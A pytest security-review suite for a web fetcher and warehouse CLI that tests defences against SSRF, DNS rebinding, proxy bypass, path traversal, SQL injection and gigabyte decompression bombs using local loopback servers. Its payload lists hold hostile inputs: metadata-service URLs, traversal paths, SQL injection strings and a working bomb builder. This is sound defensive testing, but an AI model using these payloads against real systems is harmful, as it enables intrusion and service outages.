"""Security review: one test (or one parametrized family) per threat. docs/security.md maps each test to its
threat, the defence and where that defence lives.

Everything runs against the project's real code. The network is local only: a small raw-bytes HTTP server
(``Wire``) that records every connection it accepts, loopback aliases (127.0.0.2 plays "a public host",
explicitly allowed; 127.0.0.1 plays "the internal service", never allowed), and, for DNS, a patched
``socket.getaddrinfo`` (the standard library, not our code). Memory is measured in a child process, so the
peak (``ru_maxrss``) belongs to the one operation under test and a failing guard cannot take the test
session down with it (the child also runs under an address-space limit).

A test that reproduces an open finding is marked ``xfail(strict=True)`` with the defect in its reason; when
the finding is fixed the test XPASSes, fails as strict, and the marker is removed. Every finding of the
review (docs/security.md, F1 to F6) is fixed now, so no test here carries the marker.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import errno
import functools
import hashlib
import io
import json
import re
import shutil
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import zlib
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import BinaryIO
from urllib.parse import urlsplit

import duckdb
import pytest
import requests

from pipelines.cli import main as cli
from sources.http.config import FetcherConfig
from sources.http.fetcher import Fetcher
from sources.http.urls import normalize_url
from warehouse.outreach import TargetFilter, targets
from warehouse.paths import WarehousePaths
from warehouse.read import connect_published
from warehouse.report import build_report
from warehouse.report.links import safe_href

REPO = Path(__file__).resolve().parents[1]
PUBLIC = "127.0.0.2"      # stands in for a public web server: the only address a test allows
INTERNAL = "127.0.0.1"    # stands in for an internal service: never allowed
MB = 1024 * 1024
#: Peak resident-memory growth allowed for one hostile body (the brief: < 200 MB for a 1 GB bomb).
MEMORY_BOUND = 200 * MB


# ============================================================================================ helpers
Route = bytes | Callable[[BinaryIO], None]


def _b(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("latin-1")


def response(status: int = 200, reason: str | bytes = "OK", headers: list[tuple[str, str | bytes]] | None = None,
             body: bytes = b"") -> bytes:
    """A whole HTTP/1.1 response as bytes (Content-Length added, connection closed after it)."""
    head = [b"HTTP/1.1 %d %s" % (status, _b(reason))]
    head += [_b(k) + b": " + _b(v) for k, v in headers or []]
    head += [b"Content-Length: %d" % len(body), b"Connection: close"]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


class Wire:
    """An HTTP/1.1 server on one address answering raw bytes from a route table (exact path, query ignored).

    It records the peer of every accepted connection and every request (method, target, Host), so a test
    can prove what was contacted and, above all, what was not."""

    def __init__(self, host: str = INTERNAL, port: int = 0, routes: dict[str, Route] | None = None,
                 default: Route | None = None):
        self.routes = dict(routes or {})
        self.default = default if default is not None else response(404, "Not Found", body=b"not here")
        self.peers: list[str] = []
        self.requests: list[tuple[str, str, str]] = []
        wire = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                wire.peers.append(self.client_address[0])
                line = self.rfile.readline(65536).decode("latin-1").rstrip("\r\n")
                headers: dict[str, str] = {}
                while True:
                    raw = self.rfile.readline(65536)
                    if raw in (b"\r\n", b"\n", b""):
                        break
                    key, _, value = raw.decode("latin-1").partition(":")
                    headers[key.strip().lower()] = value.strip()
                method, _, rest = line.partition(" ")
                target = rest.rsplit(" ", 1)[0]
                wire.requests.append((method, target, headers.get("host", "")))
                route = wire.routes.get(target.split("?")[0], wire.default)
                with contextlib.suppress(OSError):
                    if callable(route):
                        route(self.wfile)
                    else:
                        self.wfile.write(route)

        class Server(socketserver.ThreadingTCPServer):
            address_family = socket.AF_INET6 if ":" in host else socket.AF_INET
            daemon_threads = True
            allow_reuse_address = False

        try:
            self._server = Server((host, port), Handler)
        except OSError as exc:
            if host == PUBLIC and exc.errno == errno.EADDRNOTAVAIL:
                pytest.skip(f"{PUBLIC} is not a loopback address here (on macOS: ifconfig lo0 alias {PUBLIC})")
            raise
        self.host, self.port = host, self._server.server_address[1]

    def __enter__(self) -> Wire:
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def _pair_on_one_port() -> tuple[Wire, Wire]:
    """A "public" server on 127.0.0.2 and an "internal" one on 127.0.0.1 sharing a port number, so a DNS
    answer that changes only the address would land on the internal one."""
    for _ in range(50):
        public = Wire(PUBLIC)
        try:
            return public, Wire(INTERNAL, public.port)
        except OSError:
            public._server.server_close()   # never started: close the socket only
    raise RuntimeError("no free port on both loopback addresses")


def _config(**kw) -> FetcherConfig:
    """Production settings (no resolve overrides, nothing allowed) with short timeouts and no delay."""
    base = dict(min_delay_s=0.0, connect_timeout_s=2.0, read_timeout_s=5.0, total_timeout_s=30.0,
                max_retries=0, timeout_retries=0, backoff_base_s=0.01)
    base.update(kw)
    return FetcherConfig(**base)


@pytest.fixture
def connects(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every address any socket in this process tries to connect to, in order (urllib3 connects through
    ``socket.socket.connect``)."""
    seen: list[str] = []
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex

    def connect(sock: socket.socket, address) -> None:
        seen.append(address[0] if isinstance(address, tuple) else str(address))
        return real_connect(sock, address)

    def connect_ex(sock: socket.socket, address) -> int:
        seen.append(address[0] if isinstance(address, tuple) else str(address))
        return real_connect_ex(sock, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    return seen


def _child(code: str, *args: str, timeout: float = 120.0) -> dict:
    """Run ``code`` in a fresh interpreter under a 3 GiB address-space limit; it prints one JSON line.

    ``mark()`` before the operation and ``growth()`` after it give the operation's peak resident memory above
    the resident size at ``mark``. On Linux the peak is VmHWM, reset at ``mark`` through clear_refs (not
    ``ru_maxrss``, which a child inherits from a large parent across exec); elsewhere ``ru_maxrss``."""
    prelude = (
        "import gc, json, resource, sys\n"
        "try:\n"
        "    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"
        "except (ValueError, OSError):\n"
        "    pass\n"
        "import psutil\n"
        "def _peak():\n"
        "    try:\n"
        "        with open('/proc/self/status') as fh:\n"
        "            return next(int(l.split()[1]) * 1024 for l in fh if l.startswith('VmHWM:'))\n"
        "    except OSError:\n"
        "        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * (1 if sys.platform == 'darwin' else 1024)\n"
        "def mark():\n"
        "    global _BASE\n"
        "    gc.collect()\n"
        "    try:\n"
        "        with open('/proc/self/clear_refs', 'w') as fh:\n"
        "            fh.write('5')\n"
        "    except OSError:\n"
        "        pass\n"
        "    _BASE = psutil.Process().memory_info().rss\n"
        "def growth():\n"
        "    return _peak() - _BASE\n")
    proc = subprocess.run([sys.executable, "-c", prelude + code, *args], cwd=REPO, capture_output=True,
                          text=True, timeout=timeout)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _copy_home(sample_home: Path, dest: Path) -> Path:
    """A CDPI home holding a copy of the sample's published warehouse, safe to modify or to attack."""
    dest.mkdir(parents=True, exist_ok=True)
    shutil.copy(WarehousePaths(sample_home).published, WarehousePaths(dest).published)
    return dest


def _write(home: Path, sql: str, params: list | None = None) -> None:
    con = duckdb.connect(str(WarehousePaths(home).published))
    try:
        con.execute(sql, params or [])
    finally:
        con.close()


def _read(home: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = connect_published(WarehousePaths(home))
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def _visible(folder: Path) -> list[Path]:
    """Entries of ``folder`` without the dot-files writers keep beside what they publish (locks)."""
    return [p for p in folder.iterdir() if not p.name.startswith(".")]


def _files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


# ================================================================================ 1. SSRF and rebinding
#: Literal addresses no fetch may reach: loopback, link-local (cloud metadata), RFC 1918, shared address
#: space, unspecified, IPv6 loopback / ULA / link-local, IPv4-mapped, IPv4-compatible and NAT64 forms.
#: {p} is the port of a live internal server, so a connection, if one were made, would succeed.
BLOCKED_LITERALS = [
    "http://127.0.0.1:{p}/", "http://127.0.0.1.:{p}/admin", "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.7/", "http://172.16.0.1/", "http://192.168.1.1/", "http://100.64.0.1/",
    "http://0.0.0.0:{p}/", "http://[::1]:{p}/", "http://[::]:{p}/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://[fe80::1]/", "http://[::ffff:127.0.0.1]:{p}/", "http://[::ffff:7f00:1]:{p}/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/", "http://[::127.0.0.1]:{p}/",
    "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/",
]
#: Host names that are IPs in disguise (decimal, hex, octal, short forms) or local names. They are not IP
#: literals to ``ipaddress``, so they go through the resolver, whose answer is checked.
DISGUISED_HOSTS = ["2130706433", "0x7f000001", "017700000001", "0177.0.0.1", "0x7f.1", "127.1", "0", "localhost"]


def _resolves(host: str) -> bool:
    try:
        return bool(socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM))
    except (OSError, UnicodeError):
        return False


@pytest.mark.parametrize("template", BLOCKED_LITERALS)
def test_ssrf_private_literal_is_blocked_before_any_connection(template: str, tmp_path: Path,
                                                               connects: list[str]) -> None:
    with Wire(INTERNAL, default=response(200, body=b"internal secret")) as internal:
        url = template.format(p=internal.port)
        with Fetcher(_config(), run_dir=tmp_path) as f:
            result = f.get(url)
    assert result.outcome.value == "blocked_address", (url, result.outcome, result.error)
    assert result.body == b"" and connects == [] and internal.peers == []


@pytest.mark.parametrize("host", DISGUISED_HOSTS)
def test_ssrf_numeric_and_local_host_names_are_refused(host: str, tmp_path: Path, connects: list[str]) -> None:
    with Wire(INTERNAL, default=response(200, body=b"internal secret")) as internal, \
            Fetcher(_config(), run_dir=tmp_path) as f:
        result = f.get(f"http://{host}:{internal.port}/")
    # glibc reads these as 127.0.0.1 / 0.0.0.0, and the answer is refused; a resolver that does not read
    # them at all makes the fetch a dns_error. Either way nothing is contacted.
    expected = "blocked_address" if _resolves(host) else "dns_error"
    assert result.outcome.value == expected, (host, result.outcome, result.error)
    assert connects == [] and internal.peers == []


REDIRECT_TARGETS = BLOCKED_LITERALS + [f"http://{h}:{{p}}/" for h in DISGUISED_HOSTS] + [
    "http://internal.city.example/", "http://user:pw@127.0.0.1:{p}/", "http://127.0.0.1:{p}#@www.city.example/"]


@pytest.mark.parametrize("template", REDIRECT_TARGETS)
def test_ssrf_redirect_to_a_private_address_is_blocked(template: str, tmp_path: Path, connects: list[str]) -> None:
    """A public page redirecting to an internal address: the hop is refused, nothing internal is contacted."""
    with Wire(INTERNAL, default=response(200, body=b"internal secret")) as internal:
        target = template.format(p=internal.port)
        with Wire(PUBLIC, routes={"/go": response(302, "Found", [("Location", target)])}) as public:
            cfg = _config(resolve={"www.city.example": f"{PUBLIC}:{public.port}",
                                   "internal.city.example": "10.0.0.5"},
                          allow_addresses=(f"{PUBLIC}/32",))
            with Fetcher(cfg, run_dir=tmp_path) as f:
                result = f.get("http://www.city.example/go")
    host = urlsplit(target).hostname or ""
    expected = "dns_error" if host in DISGUISED_HOSTS and not _resolves(host) else "blocked_address"
    assert result.outcome.value == expected, (target, result.outcome, result.error)
    assert result.redirects == [normalize_url(target)] and result.body == b""
    assert set(connects) == {PUBLIC} and internal.peers == []


@pytest.mark.parametrize("target", ["file:///etc/passwd", "gopher://127.0.0.1:11211/_stats", "ftp://10.0.0.1/",
                                    "dict://127.0.0.1:6379/info", "jar:http://127.0.0.1/x!/"])
def test_ssrf_redirect_to_another_scheme_is_refused(target: str, tmp_path: Path, connects: list[str]) -> None:
    with Wire(PUBLIC, routes={"/go": response(302, "Found", [("Location", target)])}) as public:
        cfg = _config(resolve={"www.city.example": f"{PUBLIC}:{public.port}"}, allow_addresses=(f"{PUBLIC}/32",))
        with Fetcher(cfg, run_dir=tmp_path) as f:
            result = f.get("http://www.city.example/go")
    assert result.outcome.value == "invalid_url" and result.body == b""
    assert set(connects) == {PUBLIC}


def _rebinding_resolver(monkeypatch: pytest.MonkeyPatch, name: str, answers: list[str]) -> list[str]:
    """Patch the standard resolver: ``name`` answers ``answers`` in turn (then the last one forever);
    every other name resolves normally. Returns the list of answers given, one per lookup."""
    given: list[str] = []
    real = socket.getaddrinfo

    def getaddrinfo(host, port, *args, **kwargs):
        if isinstance(host, str) and host.lower() == name:
            addr = answers[min(len(given), len(answers) - 1)]
            given.append(addr)
            return [(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (addr, int(port or 80)))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return given


def test_dns_rebinding_cannot_move_the_connection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                  connects: list[str]) -> None:
    """The name answers a public address once, then the internal one. The fetcher resolves once per hop and
    connects to the very address it checked; a naive check-then-fetch client, on the same resolver, is
    carried to the internal service (the control that proves the resolver really rebinds)."""
    public, internal = _pair_on_one_port()
    public.default = response(200, body=b"public page")
    internal.default = response(200, body=b"internal secret")
    name = "rebind.example"
    url = f"http://{name}:{public.port}/"
    with public, internal:
        given = _rebinding_resolver(monkeypatch, name, [PUBLIC, INTERNAL])
        with Fetcher(_config(allow_addresses=(f"{PUBLIC}/32",), obey_robots=False), run_dir=tmp_path / "a") as f:
            result = f.get(url)
        assert result.outcome.value == "ok" and result.body == b"public page"
        assert given == [PUBLIC], "one lookup per hop: nothing left to rebind between check and connect"
        assert connects == [PUBLIC] and internal.peers == []
        assert public.requests == [("GET", "/", f"{name}:{public.port}")], "the logical Host is still sent"

        # With robots.txt on, the page is a second hop: its own lookup now answers the internal address,
        # and that answer is checked, not trusted.
        given = _rebinding_resolver(monkeypatch, name, [PUBLIC, INTERNAL])
        connects.clear()
        with Fetcher(_config(allow_addresses=(f"{PUBLIC}/32",)), run_dir=tmp_path / "b") as f:
            second = f.get(url + "page")
        assert given == [PUBLIC, INTERNAL]
        assert second.outcome.value == "blocked_address" and internal.peers == []
        assert set(connects) == {PUBLIC}

        # Control: check the name, then hand the URL to a plain client, which resolves again.
        given = _rebinding_resolver(monkeypatch, name, [PUBLIC, INTERNAL])
        checked = socket.getaddrinfo(name, public.port)[0][4][0]
        with requests.Session() as naive:
            naive.trust_env = False
            leaked = naive.get(url, timeout=5)
        assert checked == PUBLIC and leaked.content == b"internal secret" and internal.peers == [INTERNAL]


def test_a_name_with_any_private_address_is_refused_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                          connects: list[str]) -> None:
    """Round-robin answers mixing a public and a private address: refused, nothing contacted (otherwise the
    connection could fall through to the private one)."""
    real = socket.getaddrinfo

    def getaddrinfo(host, port, *args, **kwargs):
        if host == "mixed.example":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, int(port or 80))) for a in (PUBLIC, "10.0.0.1")]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    with Fetcher(_config(allow_addresses=(f"{PUBLIC}/32",)), run_dir=tmp_path) as f:
        result = f.get("http://mixed.example/")
    assert result.outcome.value == "blocked_address" and connects == []


def test_proxy_environment_cannot_bypass_the_pinned_address(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           connects: list[str]) -> None:
    """A proxy would resolve the name itself, defeating the pin: proxy variables are ignored."""
    with Wire(PUBLIC, default=response(200, body=b"direct")) as public, \
            Wire(INTERNAL, default=response(200, body=b"via proxy")) as proxy:
        for var in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
            monkeypatch.setenv(var, f"http://{INTERNAL}:{proxy.port}")
        monkeypatch.delenv("NO_PROXY", raising=False)
        monkeypatch.delenv("no_proxy", raising=False)
        cfg = _config(resolve={"www.city.example": f"{PUBLIC}:{public.port}"}, allow_addresses=(f"{PUBLIC}/32",))
        with Fetcher(cfg, run_dir=tmp_path) as f:
            result = f.get("http://www.city.example/")
    assert result.body == b"direct" and proxy.peers == [] and set(connects) == {PUBLIC}


# ======================================================================= robustness of the archive path
@pytest.mark.parametrize("case", ["location", "reason", "link"])
def test_non_ascii_bytes_from_a_server_never_crash_the_fetcher(case: str, tmp_path: Path) -> None:
    routes = {"/go": response(302, "Found", [("Location", b"/caf\xc3\xa9.pdf")]),
              "/reason": response(200, b"\xc3\x96K", body=b"fine")}
    with Wire(PUBLIC, routes=routes, default=response(200, body=b"page")) as public:
        cfg = _config(resolve={"www.city.example": f"{PUBLIC}:{public.port}"}, allow_addresses=(f"{PUBLIC}/32",))
        url = {"location": "http://www.city.example/go", "reason": "http://www.city.example/reason",
               "link": "http://www.city.example/presupuesto_a\u00f1o.pdf"}[case]
        with Fetcher(cfg, run_dir=tmp_path) as f:
            results = f.fetch_many([url, "http://www.city.example/ok"])
    assert [r.outcome.value for r in results] == ["ok", "ok"]


# ============================================================================== 2. path traversal
HOSTILE_PATHS = ["/../../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/tmp/evil", "/..%2f..%2f..%2fevil",
                 "/%2e%2e%5c%2e%2e%5cwin.ini", "/a%00b.html", "/a\x00b.html", "/.%2e/.%2e/x",
                 "/x?file=../../../../tmp/evil&n=%00", "/" + "A" * 4000]


def test_urls_never_become_file_names(tmp_path: Path) -> None:
    """WARC files, the fetch log and the conditional-GET cache are named by prefix, process id and body
    digest, never by anything in a URL: hostile paths stay inside the records, and replay finds them."""
    def page(wfile: BinaryIO) -> None:   # a distinct cacheable body per request (ETag, so it is stored)
        wfile.write(response(200, headers=[("ETag", '"v1"'), ("Content-Type", "text/plain")],
                             body=f"body {len(public.requests)}".encode()))

    with Wire(PUBLIC, routes={"/robots.txt": response(404, "Not Found")}, default=page) as public:
        cfg = _config(resolve={"www.city.example": f"{PUBLIC}:{public.port}"}, allow_addresses=(f"{PUBLIC}/32",),
                      cache_dir=tmp_path / "cache")
        urls = [f"http://www.city.example{p}" for p in HOSTILE_PATHS]
        with Fetcher(cfg, run_dir=tmp_path / "run", archive_prefix="city_evidence") as f:
            live = [f.get(u) for u in urls]
    assert all(r.outcome.value == "ok" for r in live), [(r.url, r.outcome, r.error) for r in live]
    allowed = [r"run/warc/city_evidence-\d+\.warc\.gz", r"run/fetch_log-city_evidence-\d+\.jsonl",
               r"cache/validators\.sqlite(-wal|-shm)?", r"cache/bodies/[0-9a-f]{2}/[0-9a-f]{64}\.gz"]
    files = _files(tmp_path)
    assert files and all(any(re.fullmatch(rx, name) for rx in allowed) for name in files), files
    assert len([n for n in files if n.startswith("cache/bodies/")]) == len(set(r.body for r in live))
    with Fetcher(FetcherConfig(replay=(str(tmp_path / "run" / "warc"),))) as f:
        replayed = [f.get(u) for u in urls]
    # A raw NUL and %00 are one request on the wire (the client percent-encodes what a request line cannot
    # carry), so replay answers both with the last response archived for that URL.
    last = {normalize_url(u): r.body for u, r in zip(urls, live, strict=True)}
    assert [r.body for r in replayed] == [last[normalize_url(u)] for u in urls]


@pytest.fixture(scope="module")
def attack_home(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A private copy of the sample warehouse that the SQL and export tests may attack."""
    return _copy_home(sample_home, tmp_path_factory.mktemp("attack_home"))


@pytest.mark.parametrize("geoid", ["../../evil", "..", "a/../../evil", "cities/../../evil", "evil\x00x",
                                   "{tmp}/abs/evil", "evil.html\n"])
def test_report_refuses_a_geoid_that_is_not_a_file_name(geoid: str, sample_home: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture) -> None:
    geoid = geoid.format(tmp=tmp_path)
    home = _copy_home(sample_home, tmp_path / "home")
    (victim,) = _read(home, "SELECT geoid FROM marts.city_index_latest ORDER BY geoid LIMIT 1")[0]
    _write(home, "UPDATE marts.city_index SET geoid = ? WHERE geoid = ?", [geoid, victim])
    site = tmp_path / "out" / "site"
    before = _files(tmp_path)
    assert cli(["report", "--home", str(home), "--out", str(site)]) == 1
    assert "cannot be used as a file name" in capsys.readouterr().err
    assert _files(tmp_path) == before and not site.exists(), "nothing written, inside or outside the site"


SNAPSHOT_ATTACKS = ["../x", "../../2026-11", "2026-11/../../x", "%", "2026-11' OR '1'='1",
                    "2026-11'; COPY (SELECT 1) TO 'pwn.csv'; --"]


@pytest.mark.parametrize(("command", "snapshot"), [(c, s) for c in ("export", "report") for s in SNAPSHOT_ATTACKS]
                         + [("export", "2026-11\n")])   # export's YYYY-MM check lets a trailing newline through
def test_snapshot_argument_cannot_name_a_folder(command: str, snapshot: str, attack_home: Path, tmp_path: Path,
                                               capsys: pytest.CaptureFixture) -> None:
    """--snapshot is validated as YYYY-MM and then only ever bound; the folder name comes from the run's
    own snapshot date, never from the argument."""
    out = tmp_path / "out"
    assert cli([command, "--snapshot", snapshot, "--home", str(attack_home), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("cdpi: error:") and "Parser Error" not in err
    assert not out.exists() and _files(tmp_path) == [] and not (REPO / "pwn.csv").exists()


def test_export_out_folder_with_sql_quotes_is_a_literal(attack_home: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture) -> None:
    """COPY takes no bound parameter for its target, so the path is quoted: a folder name carrying SQL
    lands as a folder, and the warehouse is untouched."""
    digest = _sha256(WarehousePaths(attack_home).published)
    out = tmp_path / "it's'); DROP TABLE marts.city_index; --"
    assert cli(["export", "--home", str(attack_home), "--out", str(out), "--format", "csv"]) == 0
    capsys.readouterr()
    (folder,) = _visible(out)
    assert re.fullmatch(r"\d{4}-\d{2}", folder.name) and (folder / "manifest.json").exists()
    assert (folder / "marts.city_index.csv").exists()
    assert _sha256(WarehousePaths(attack_home).published) == digest


# ============================================================== 3. oversized and decompression bombs
@functools.lru_cache(maxsize=8)
def deflate_bomb(mib: int, wbits: int) -> bytes:
    """A valid deflate stream (zlib wbits=15, gzip 31, raw -15) of ``mib`` MiB of zeros, about 1 KB per MiB,
    built without holding the zeros: after a full flush the compressor forgets its history, so every further
    MiB compresses to the same bytes; the trailer's checksum is computed separately."""
    chunk = bytes(MB)
    co = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    again = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    end = co.flush()
    if wbits == 31:
        crc = 0
        for _ in range(mib):
            crc = zlib.crc32(chunk, crc)
        return first + again * (mib - 1) + end[:-8] + struct.pack("<II", crc, (mib * MB) & 0xFFFFFFFF)
    if wbits == 15:
        adler = 1
        for _ in range(mib):
            adler = zlib.adler32(chunk, adler)
        return first + again * (mib - 1) + end[:-4] + struct.pack(">I", adler)
    return first + again * (mib - 1) + end


def test_bomb_builder_is_a_real_bomb() -> None:
    for wbits in (15, 31, -15):
        small = deflate_bomb(3, wbits)
        assert zlib.decompress(small, wbits) == bytes(3 * MB) and len(small) < 10_000


def _chunked_gib(wfile: BinaryIO) -> None:
    """1 GiB of identity body, chunked (no Content-Length to refuse it by), until the client hangs up."""
    wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n"
                b"Connection: close\r\n\r\n")
    piece = b"<p>" + b"x" * (64 * 1024 - 7) + b"</p>"
    for _ in range(1024 * MB // len(piece)):
        wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
    wfile.write(b"0\r\n\r\n")


def _bomb(encoding: str) -> Route:
    if encoding == "chunked":
        return _chunked_gib
    gib = 1024
    body = {"gzip": lambda: deflate_bomb(gib, 31), "deflate": lambda: deflate_bomb(gib, 15),
            "deflate-raw": lambda: deflate_bomb(gib, -15),
            "gzip, gzip": lambda: _gzip(deflate_bomb(gib, 31)),
            "gzip, gzip, gzip, gzip, gzip, gzip": lambda: _gzip(_gzip(_gzip(_gzip(_gzip(deflate_bomb(gib, 31))))))}
    wire_name = "deflate" if encoding == "deflate-raw" else encoding
    return response(200, headers=[("Content-Type", "text/html"), ("Content-Encoding", wire_name)],
                    body=body[encoding]())


def _gzip(data: bytes) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    return co.compress(data) + co.flush()


FETCH_CHILD = """
from pathlib import Path
from sources.http.config import FetcherConfig
from sources.http.fetcher import Fetcher
port, run_dir = int(sys.argv[1]), Path(sys.argv[2])
cap = int(sys.argv[3]) if len(sys.argv) > 3 else None   # a per-request cap, as callers pass one
cfg = FetcherConfig(resolve={"bomb.city.example": f"127.0.0.1:{port}"}, allow_addresses=("127.0.0.1",),
                    min_delay_s=0.0, max_retries=0, timeout_retries=0, total_timeout_s=60.0)
with Fetcher(cfg, run_dir=run_dir) as f:
    mark()
    r = f.get("http://bomb.city.example/bomb", max_bytes=cap)
    grew = growth()
print(json.dumps({"outcome": r.outcome.value, "body": len(r.body), "growth": grew, "cap": cfg.max_bytes,
                  "error": r.error}))
"""


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "deflate-raw", "gzip, gzip", "chunked",
                                      "gzip, gzip, gzip, gzip, gzip, gzip"])
def test_gigabyte_bombs_end_as_outcomes_with_bounded_memory(encoding: str, tmp_path: Path) -> None:
    """1 GiB behind each Content-Encoding the fetcher advertises or urllib3 decodes (and identity, chunked):
    production cap (25 MB), fetched in a child process whose peak memory is measured."""
    with Wire(INTERNAL, routes={"/bomb": _bomb(encoding)}) as server:
        out = _child(FETCH_CHILD, str(server.port), str(tmp_path / "run"))
    if encoding.count("gzip") > 5:   # urllib3 refuses more than five stacked encodings outright
        assert out["outcome"] in ("too_large", "connection_error"), out
    else:
        assert out["outcome"] == "too_large", out
    assert out["body"] == 0 and out["growth"] < MEMORY_BOUND, f"{out['growth'] / MB:.0f} MiB for {encoding}"


@pytest.mark.parametrize("encoding", ["gzip", "chunked"])
def test_catalog_sized_cap_still_bounds_a_gzip_bomb(encoding: str, tmp_path: Path) -> None:
    """A whole-catalog URL may answer up to CATALOG_DOCUMENT_MAX_BYTES (256 MB), but a refused body costs no
    more memory than the ordinary cap: a gzip bomb stops at the expansion bound, and 1 GiB of identity
    body goes to a temporary file past 25 MB, of which only the first 25 MB are kept for the archive."""
    from sources.portals.discovery import CATALOG_DOCUMENT_MAX_BYTES

    with Wire(INTERNAL, routes={"/bomb": _bomb(encoding)}) as server:
        out = _child(FETCH_CHILD, str(server.port), str(tmp_path / "run"), str(CATALOG_DOCUMENT_MAX_BYTES))
    assert out["outcome"] == "too_large", out
    assert ("expanded more than" if encoding == "gzip" else "exceeded") in out["error"], out
    assert out["growth"] < MEMORY_BOUND, f"{out['growth'] / MB:.0f} MiB for a 1 GiB {encoding} body on a catalog URL"
    left = _files(tmp_path / "run")
    assert all(re.fullmatch(r"warc/cdpi-\d+\.warc\.gz|fetch_log-cdpi-\d+\.jsonl", n) for n in left), left


def _catalog_route(data: bytes, encoding: str) -> Route:
    """``data`` gzip-compressed, or as identity chunks (no Content-Length to refuse it by)."""
    if encoding == "gzip":
        return response(200, headers=[("Content-Type", "application/json"), ("Content-Encoding", "gzip")],
                        body=_gzip(data))

    def chunked(wfile: BinaryIO) -> None:
        wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
                    b"Connection: close\r\n\r\n")
        for at in range(0, len(data), 64 * 1024):
            piece = data[at:at + 64 * 1024]
            wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        wfile.write(b"0\r\n\r\n")
    return chunked


def _varied_json(size: int) -> bytes:
    """JSON that compresses about as well as a real catalog (a few times, not a thousand)."""
    words = [hashlib.sha256(b"%d" % i).hexdigest()[: 4 + i % 7] for i in range(4000)]
    out, i = bytearray(b'{"dataset": ['), 0
    while len(out) < size:
        out += b'{"id": %d, "title": "%s"},' % (i, " ".join(words[(i * k * 7919) % 4000] for k in range(1, 9)).encode())
        i += 1
    return bytes(out[:-1]) + b"]}"


@pytest.mark.parametrize("encoding", ["gzip", "chunked"])
def test_a_catalog_above_the_page_cap_is_read_whole_and_exact(encoding: str, tmp_path: Path) -> None:
    """The bounds above do not cost honest catalogs anything: a body past the ordinary cap (here 1 MB)
    under a raised per-request cap is read through the temporary file and handed over byte for byte,
    compressed or not, and archived whole."""
    data = _varied_json(6 * MB)
    with Wire(PUBLIC, routes={"/data.json": _catalog_route(data, encoding)}) as public:
        cfg = _config(resolve={"portal.city.example": f"{PUBLIC}:{public.port}"},
                      allow_addresses=(f"{PUBLIC}/32",), max_bytes=1 * MB)
        with Fetcher(cfg, run_dir=tmp_path / "run") as f:
            result = f.get("http://portal.city.example/data.json", max_bytes=64 * MB)
    assert (result.outcome.value, result.body == data) == ("ok", True), result.error
    with Fetcher(FetcherConfig(replay=(str(tmp_path / "run" / "warc"),))) as f:
        assert f.get("http://portal.city.example/data.json").body == data


@pytest.mark.parametrize(("size", "outcome"), [(MB, "ok"), (8 * MB, "too_large")])
def test_the_expansion_bound_starts_past_the_page_cap(size: int, outcome: str, tmp_path: Path) -> None:
    """Zeros compress about 1,000 times. Within the ordinary cap (2 MB here) that is allowed as it always
    was; past it, under a raised cap, it is a bomb."""
    with Wire(PUBLIC, routes={"/data.json": _catalog_route(bytes(size), "gzip")}) as public:
        cfg = _config(resolve={"portal.city.example": f"{PUBLIC}:{public.port}"},
                      allow_addresses=(f"{PUBLIC}/32",), max_bytes=2 * MB)
        with Fetcher(cfg, run_dir=tmp_path / "run") as f:
            result = f.get("http://portal.city.example/data.json", max_bytes=64 * MB)
    assert result.outcome.value == outcome, result.error
    assert result.body == (bytes(size) if outcome == "ok" else b"")
    assert outcome == "ok" or "expanded more than 200 times" in result.error


def test_a_refused_catalog_keeps_only_a_prefix_in_the_archive(tmp_path: Path) -> None:
